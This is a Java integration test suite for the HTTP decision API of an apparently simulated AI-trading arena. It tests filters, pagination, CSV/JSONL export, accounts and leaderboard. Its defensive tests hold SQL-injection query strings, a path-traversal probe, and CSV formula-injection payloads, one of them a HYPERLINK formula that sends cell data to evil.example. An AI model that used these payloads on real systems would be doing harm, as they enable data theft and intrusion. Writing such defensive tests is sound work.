package io.camelarena.api;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.camelarena.testing.CsvRecords;
import java.math.BigDecimal;
import java.net.http.HttpResponse;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.Timestamp;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;

/** The decision API over real HTTP against the runtime: list, filters, pagination, detail, export, accounts, board. */
class DecisionApiTest extends ApiRuntimeTestSupport {

    private String firstTick;

    private synchronized void seeded() {
        if (firstTick == null) {
            firstTick = triggerTick();
            triggerTick();
        }
    }

    @Test
    void listsNewestFirstWithoutLongTextsUnlessAsked() throws Exception {
        seeded();
        JsonNode page = getJson("/api/decisions");
        assertThat(page.get("items").size()).isEqualTo(6);
        assertThat(page.get("nextCursor").isNull()).isTrue();
        JsonNode first = page.get("items").get(0);
        assertThat(first.has("user_prompt")).isFalse();
        assertThat(first.get("account").asText()).isNotEmpty();
        List<String> times = new ArrayList<>();
        page.get("items").forEach(i -> times.add(i.get("decision_time").asText()));
        assertThat(times).isSortedAccordingTo((a, b) -> b.compareTo(a));

        JsonNode full = getJson("/api/decisions?fields=full&status=PARSE_ERROR");
        assertThat(full.get("items").size()).isEqualTo(2);
        assertThat(full.get("items").get(0).get("reasoning_trace").asText()).isEqualTo(PROSE_REPLY);
        assertThat(full.get("items").get(0).get("user_prompt").asText()).isNotBlank();
    }

    @Test
    void filtersAreAppliedAndValidated() throws Exception {
        seeded();
        assertThat(getJson("/api/decisions?account=gpt-stub").get("items")).hasSize(2)
                .allSatisfy(i -> assertThat(i.get("status").asText()).isEqualTo("PARSE_ERROR"));
        assertThat(getJson("/api/decisions?provider=simulated&model=momentum").get("items")).hasSize(2);
        assertThat(getJson("/api/decisions?status=parse_error,hold,executed,rejected&tick=" + firstTick)
                .get("items")).hasSize(3);
        assertThat(getJson("/api/decisions?executed=false&provider=openai").get("items")).hasSize(2);
        assertThat(getJson("/api/decisions?from=2000-01-01&to=2001-01-01").get("items")).isEmpty();
        assertThat(getJson("/api/decisions?error_code=UNPARSEABLE_REPLY&symbol=BTC").get("items")).isEmpty();
        // A request header is not a filter: only the query string is read.
        HttpResponse<String> withHeader = get("/api/decisions", "status", "HOLD");
        assertThat(JSON.readTree(withHeader.body()).get("items")).hasSize(6);

        assertBadRequest("/api/decisions?limit=501", "limit");
        assertBadRequest("/api/decisions?limit=0", "limit");
        assertBadRequest("/api/decisions?status=LOST", "status");
        assertBadRequest("/api/decisions?provider=acme", "provider");
        assertBadRequest("/api/decisions?from=yesterday", "from");
        assertBadRequest("/api/decisions?executed=yes", "executed");
        assertBadRequest("/api/decisions?cursor=garbage", "cursor");
        assertBadRequest("/api/decisions?acount=1", "acount");
        assertBadRequest("/api/decisions?symbol=BTC%27%20OR%201%3D1", "symbol");
        assertBadRequest("/api/decisions/export?format=xml", "format");
        assertBadRequest("/api/decisions/abc", "id");
        // A quote in a free-text filter is a value, not SQL.
        assertThat(getJson("/api/decisions?model=x%27%20OR%20%271%27%3D%271").get("items")).isEmpty();
        assertThat(get("/api/decisions/999999").statusCode()).isEqualTo(404);
    }

    @Test
    void cursorPagesAreStableUnderConcurrentInserts() throws Exception {
        seeded();
        Instant base = Instant.parse("2030-01-01T00:00:00Z");
        int accountId = getJson("/api/accounts").get("items").get(0).get("id").asInt();
        try (Connection c = dataSource().getConnection()) {
            for (int i = 0; i < 25; i++) {
                // Pairs of rows share a decision_time: the id breaks the tie.
                insertDecision(c, accountId, base.plusSeconds(i / 2), "HOLD", "page-test");
            }
        }
        Set<Integer> seen = new HashSet<>();
        String cursor = null;
        int pages = 0;
        try {
        do {
            JsonNode page = getJson("/api/decisions?tick=page-test&limit=4" + (cursor == null ? "" : "&cursor=" + cursor));
            page.get("items").forEach(i -> assertThat(seen.add(i.get("id").asInt())).as("duplicate").isTrue());
            try (Connection c = dataSource().getConnection()) {
                // Newer rows arriving between pages do not shift the following pages.
                insertDecision(c, accountId, base.plusSeconds(3600 + pages), "HOLD", "page-test");
            }
            cursor = page.get("nextCursor").isNull() ? null : page.get("nextCursor").asText();
            pages++;
        } while (cursor != null);
        } finally {
            try (Connection c = dataSource().getConnection(); var st = c.createStatement()) {
                st.executeUpdate("DELETE FROM ai_decision_logs WHERE tick_id = 'page-test'");
            }
        }
        // Every row that existed when paging began, once each; rows inserted meanwhile are newer (first page).
        assertThat(seen).hasSize(25);
        assertThat(pages).isEqualTo(7);
    }

    @Test
    void detailHasEverythingIncludingTheOrderAndTheSameTick() throws Exception {
        seeded();
        JsonNode parseError = getJson("/api/decisions?status=PARSE_ERROR&limit=1").get("items").get(0);
        JsonNode d = getJson("/api/decisions/" + parseError.get("id").asInt());
        assertThat(d.get("reasoning_trace").asText()).isEqualTo(PROSE_REPLY);
        assertThat(d.get("user_prompt").asText()).isNotBlank();
        assertThat(d.get("error_code").asText()).isEqualTo("UNPARSEABLE_REPLY");
        assertThat(d.get("input_tokens").asInt()).isEqualTo(900);
        assertThat(d.get("latency_ms").isNumber()).isTrue();
        assertThat(d.get("tick").get("prices").get("BTC").decimalValue()).isEqualByComparingTo("95234.5");
        assertThat(d.get("same_tick")).hasSize(3);

        // Both simulated accounts open a position in the first tick and hold it in the second (prices stand still).
        assertThat(getJson("/api/decisions?status=EXECUTED").get("items")).extracting(i -> i.get("account").asText())
                .containsExactlyInAnyOrder("sim-momentum", "sim-contrarian");
        JsonNode executed = getJson("/api/decisions?status=EXECUTED&account=sim-momentum").get("items");
        assertThat(executed).hasSize(1);
        JsonNode e = getJson("/api/decisions/" + executed.get(0).get("id").asInt());
        JsonNode order = e.get("order");
        assertThat(order.get("id").asInt()).isEqualTo(e.get("order_id").asInt());
        assertThat(e.get("parsed_decision").get("operation").asText()).isEqualTo("open");
        assertThat(order.get("operation").asText()).isEqualToIgnoringCase("open");
        assertThat(order.get("side").asText()).isEqualToIgnoringCase("long");
        assertThat(order.get("symbol").asText()).isEqualTo(e.get("symbol").asText());
        assertThat(order.get("leverage").asInt()).isEqualTo(e.get("leverage").asInt());
        assertThat(order.get("tick_id").asText()).isEqualTo(e.get("tick_id").asText()).isEqualTo(firstTick);
    }

    @Test
    void exportsJsonLinesAndCsvWithTheFilters() throws Exception {
        seeded();
        HttpResponse<String> jsonl = get("/api/decisions/export?format=jsonl&account=gpt-stub");
        assertThat(jsonl.statusCode()).isEqualTo(200);
        assertThat(jsonl.headers().firstValue("Content-Type")).hasValueSatisfying(t -> assertThat(t)
                .startsWith("application/x-ndjson"));
        String[] lines = jsonl.body().split("\n");
        assertThat(lines).hasSize(2);
        assertThat(JSON.readTree(lines[0]).get("reasoning_trace").asText()).isEqualTo(PROSE_REPLY);

        HttpResponse<String> csv = get("/api/decisions/export?format=csv&status=PARSE_ERROR&fields=summary");
        assertThat(csv.headers().firstValue("Content-Disposition").orElse("")).contains("attachment", ".csv");
        String[] rows = csv.body().split("\r\n");
        assertThat(rows[0]).startsWith("id,decision_id,decision_time,tick_id,account_id,account,provider,model,status");
        assertThat(rows).hasSize(3);
        assertThat(csv.body()).doesNotContain("user_prompt");
    }

    @Test
    void csvTextCellsThatASpreadsheetWouldRunAsFormulasAreMadeText() throws Exception {
        seeded();
        int accountId = getJson("/api/accounts").get("items").get(0).get("id").asInt();
        String link = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
        try (Connection c = dataSource().getConnection(); PreparedStatement st = c.prepareStatement("INSERT INTO "
                + "ai_decision_logs (account_id, decision_time, tick_id, reason, operation, symbol, target_portion, "
                + "total_balance, status, provider, model, user_prompt, reasoning_trace, llm_output, error_message) "
                + "VALUES (?, ?, 'csv-test', ?, 'hold', 'ETH', ?, ?, 'HOLD', 'simulated', ?, ?, ?, ?, ?)")) {
            st.setInt(1, accountId);
            st.setTimestamp(2, Timestamp.from(Instant.parse("2031-01-01T00:00:00Z")));
            st.setString(3, link);
            st.setBigDecimal(4, new BigDecimal("-0.25"));
            st.setBigDecimal(5, new BigDecimal("-12.5"));
            st.setString(6, "+model");
            st.setString(7, "@SUM(1+1)");
            st.setString(8, "\tcmd");
            st.setString(9, "\r-2+3");
            st.setString(10, "-2+3 loss, said the model");
            st.executeUpdate();
        }
        try {
            Map<String, String> row = CsvRecords.byHeader(get("/api/decisions/export?format=csv&tick=csv-test").body()).get(0);
            assertThat(row).containsEntry("reason", "'" + link).containsEntry("model", "'+model")
                    .containsEntry("user_prompt", "'@SUM(1+1)").containsEntry("reasoning_trace", "'\tcmd")
                    .containsEntry("llm_output", "'\r-2+3").containsEntry("error_message", "'-2+3 loss, said the model")
                    // Numbers are numbers (their sign kept); texts that start otherwise are unchanged.
                    .containsEntry("target_portion", "-0.25").containsEntry("total_balance", "-12.5")
                    .containsEntry("symbol", "ETH").containsEntry("tick_id", "csv-test");
            assertThat(row.get("decision_time")).startsWith("2031-01-01T00:00:00");
            // JSON lines are data, not a spreadsheet: texts verbatim.
            JsonNode line = JSON.readTree(get("/api/decisions/export?format=jsonl&tick=csv-test").body());
            assertThat(line.get("reason").asText()).isEqualTo(link);
            assertThat(line.get("llm_output").asText()).isEqualTo("\r-2+3");
        } finally {
            try (Connection c = dataSource().getConnection(); var st = c.createStatement()) {
                st.executeUpdate("DELETE FROM ai_decision_logs WHERE tick_id = 'csv-test'");
            }
        }
    }


    @Test
    void accountsPositionsOrdersWithoutSecrets() throws Exception {
        seeded();
        HttpResponse<String> accounts = get("/api/accounts");
        assertThat(accounts.body()).doesNotContain(API_KEY).contains("\"api_key_env\":\"ARENA_API_TEST_KEY\"");
        JsonNode items = JSON.readTree(accounts.body()).get("items");
        assertThat(items).hasSize(3);
        assertThat(AccountApi.safeUrl("https://user:pw@host.example/v1?key=abc")).isEqualTo("https://host.example/v1");

        // sim-momentum opened one long in the first tick and held it in the second (see the detail test).
        JsonNode opened = getJson("/api/decisions?account=sim-momentum&status=EXECUTED").get("items").get(0);
        String symbol = opened.get("symbol").asText();
        JsonNode positions = getJson("/api/accounts/sim-momentum/positions");
        assertThat(positions.get("items")).singleElement().satisfies(p -> {
            assertThat(p.get("symbol").asText()).isEqualTo(symbol);
            assertThat(p.get("side").asText()).isEqualToIgnoringCase("long");
            // marked at the last tick's price of the stub (hyperliquid-allmids.json)
            assertThat(p.get("mark_price").decimalValue()).isEqualByComparingTo(
                    getJson("/api/decisions/" + opened.get("id").asInt()).at("/tick/prices/" + symbol).decimalValue());
        });
        JsonNode orders = getJson("/api/accounts/sim-momentum/orders?limit=5");
        assertThat(orders.get("items")).singleElement().satisfies(o -> {
            assertThat(o.get("symbol").asText()).isEqualTo(symbol);
            assertThat(o.get("id").asInt()).isEqualTo(opened.get("order_id").asInt());
        });
        assertThat(get("/api/accounts/nobody/orders").statusCode()).isEqualTo(404);
        assertBadRequest("/api/accounts/1/orders?limit=9999", "limit");
    }

    @Test
    void leaderboardHasTheMetricsAndAnEquityHistory() throws Exception {
        seeded();
        JsonNode board = getJson("/api/leaderboard");
        assertThat(board.get("prices_as_of").asText()).isNotEmpty();
        // the three accounts, and since issue 15 the two baselines (buy-and-hold BTC, equal-weight basket)
        List<JsonNode> rows = new ArrayList<>();
        List<String> baselines = new ArrayList<>();
        board.get("items").forEach(r -> {
            if (r.get("baseline").asBoolean()) {
                baselines.add(r.get("account").asText());
            } else {
                rows.add(r);
            }
        });
        assertThat(rows).hasSize(3);
        assertThat(baselines).containsExactlyInAnyOrder("buy-and-hold BTC", "equal-weight basket");
        for (JsonNode row : rows) {
            assertThat(row.fieldNames()).toIterable().contains("equity", "return_pct", "realized_pnl",
                    "unrealized_pnl", "fees", "trades", "win_rate", "max_drawdown_pct", "decisions",
                    "parse_error_rate", "model_error_rate", "mean_latency_ms", "input_tokens", "output_tokens",
                    "equity_history", "models");
            assertThat(row.get("equity_history").size()).isGreaterThanOrEqualTo(3);
        }
        JsonNode stub = null;
        for (JsonNode row : rows) {
            if (row.get("account").asText().equals("gpt-stub")) {
                stub = row;
            }
        }
        assertThat(stub.get("parse_error_rate").decimalValue()).isEqualByComparingTo("1");
        assertThat(stub.get("equity").decimalValue()).isEqualByComparingTo("10000");
        assertThat(stub.get("input_tokens").asLong()).isEqualTo(1800);
        assertBadRequest("/api/leaderboard?points=1", "points");
    }

    @Test
    void servesThePageTheAssetsAndTheOpenApiDocument() throws Exception {
        HttpResponse<String> page = get("/");
        assertThat(page.statusCode()).isEqualTo(200);
        assertThat(page.headers().firstValue("Content-Type").orElse("")).startsWith("text/html");
        assertThat(page.body()).contains("/web/app.js");
        // The routes' Cache-Control reaches the client (Camel's HTTP header filter dropped it: ApiResponseHeaders).
        assertThat(page.headers().allValues("Cache-Control")).containsExactly("no-cache");
        assertThat(get("/web/app.js").headers().allValues("Cache-Control")).containsExactly("no-cache");
        assertThat(get("/api/decisions?limit=1").headers().allValues("Cache-Control")).containsExactly("no-store");
        assertThat(get("/web/app.js").statusCode()).isEqualTo(200);
        assertThat(get("/web/app.css").statusCode()).isEqualTo(200);
        assertThat(get("/web/..%2Fapplication.properties").statusCode()).isEqualTo(404);
        assertThat(get("/web/nothing.js").statusCode()).isEqualTo(404);
        JsonNode openapi = getJson("/api/openapi.json");
        assertThat(openapi.get("openapi").asText()).startsWith("3.");
        assertThat(openapi.at("/servers/0/url").asText()).isEqualTo("/api");
        assertThat(openapi.get("paths").has("/decisions/export")).isTrue();
    }

    @Test
    void answersCarryNoRequestHeadersAlsoForPathsAndMethodsTheApiDoesNotHave() throws Exception {
        String[] probe = {"X-Probe", "echo-me", "Authorization", "Bearer not-for-the-answer"};
        HttpResponse<String> unknown = get("/api/no-such-thing", probe);
        assertThat(unknown.statusCode()).isEqualTo(404);
        HttpResponse<String> wrongMethod = http.send(java.net.http.HttpRequest.newBuilder(java.net.URI.create(
                "http://127.0.0.1:" + httpPort + "/api/decisions")).DELETE().headers(probe).build(),
                HttpResponse.BodyHandlers.ofString());
        assertThat(wrongMethod.statusCode()).isEqualTo(405);
        assertThat(wrongMethod.headers().firstValue("Allow")).hasValue("GET");
        HttpResponse<String> audit = get("/api/audit/verify?echo=1", probe);
        assertThat(audit.statusCode()).isEqualTo(200);
        for (HttpResponse<String> r : List.of(unknown, wrongMethod, audit)) {
            assertThat(r.headers().map().keySet()).as(r.uri().toString())
                    .doesNotContain("x-probe", "authorization", "user-agent", "echo");
        }
    }

    @Test
    void theAuditCheckAnswersJson500WhenTheChainCannotBeRead() throws Exception {
        try (Connection c = dataSource().getConnection(); var st = c.createStatement()) {
            st.execute("ALTER TABLE audit_chain_head RENAME TO audit_chain_head_away");
        }
        try {
            HttpResponse<String> failed = get("/api/audit/verify");
            assertThat(failed.statusCode()).isEqualTo(500);
            assertThat(JSON.readTree(failed.body()).get("error").asText()).isEqualTo("internal_error");
            assertThat(failed.body()).doesNotContain("Exception", "\tat ");
        } finally {
            try (Connection c = dataSource().getConnection(); var st = c.createStatement()) {
                st.execute("ALTER TABLE audit_chain_head_away RENAME TO audit_chain_head");
            }
        }
        assertThat(get("/api/audit/verify").statusCode()).isEqualTo(200);
    }

    private void assertBadRequest(String path, String parameter) throws Exception {
        HttpResponse<String> r = get(path);
        assertThat(r.statusCode()).as(path + " -> " + r.body()).isEqualTo(400);
        JsonNode error = JSON.readTree(r.body());
        assertThat(error.get("parameter").asText()).isEqualTo(parameter);
        assertThat(error.get("message").asText()).isNotBlank();
    }
}
